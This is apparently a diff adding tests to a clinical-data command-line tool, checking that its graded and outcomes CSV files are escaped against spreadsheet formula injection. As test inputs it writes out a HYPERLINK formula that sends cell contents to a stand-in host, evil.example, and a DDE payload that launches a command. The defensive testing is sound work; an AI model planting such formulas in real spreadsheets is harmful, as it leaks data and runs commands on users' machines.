@@ -217,3 +217,54 @@ def test_kinetics_refuses_impossible_numbers(
     assert main(["clinical", "kinetics", str(path)]) == 2
     err = " ".join(capsys.readouterr().err.split())
     assert f"field {field!r}" in err and message in err
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def _spreadsheet_cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.reader(handle))
+
+
+def _no_formula(cells: list[list[str]]) -> None:
+    for row in cells:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                float(cell)  # only a plain number may start with a sign
+
+
+def test_grade_out_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "crs.csv"
+    quoted = '"' + HOSTILE.replace('"', '""') + '"'
+    path.write_text(
+        HEADER.rstrip("\n") + ",comment\n"
+        f"{quoted},1,false,false,38.4,no,,none,,no,@SUM(1+1)\n"
+        "P2,1,false,false,37.0,no,,none,,no,+cmd|' /C calc'!A0\n"
+    )
+    out = tmp_path / "graded.csv"
+    assert main(["clinical", "grade", str(path), "--kind", "crs", "--out", str(out)]) == 0
+    cells = _spreadsheet_cells(out)
+    _no_formula(cells)
+    flat = [c for row in cells for c in row]
+    assert "'" + HOSTILE in flat and "'@SUM(1+1)" in flat and "'+cmd|' /C calc'!A0" in flat
+
+
+def test_outcomes_table_csv_is_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
+    lines = ["patient_id,car_expression,pfs_time,pfs_event,responder"]
+    for i in range(30):
+        name = f"-{i}+cmd" if i % 2 else f"P{i}"
+        lines.append(f"{name},{20 + i},{100 + 10 * i},{i % 3 == 0:d},{int(i > 14)}")
+    path = tmp_path / "patients.csv"
+    path.write_text("\n".join(lines) + "\n")
+    table = tmp_path / "table.csv"
+    code = main(
+        ["clinical", "outcomes", str(path), "--attribute", "car_expression",
+         "--out", str(tmp_path / "report"), "--permutations", "19", "--table", str(table)]
+    )  # fmt: skip
+    assert code == 0
+    cells = _spreadsheet_cells(table)
+    _no_formula(cells)
+    assert cells[2][0] == "'-1+cmd" and cells[1][0] == "P0"
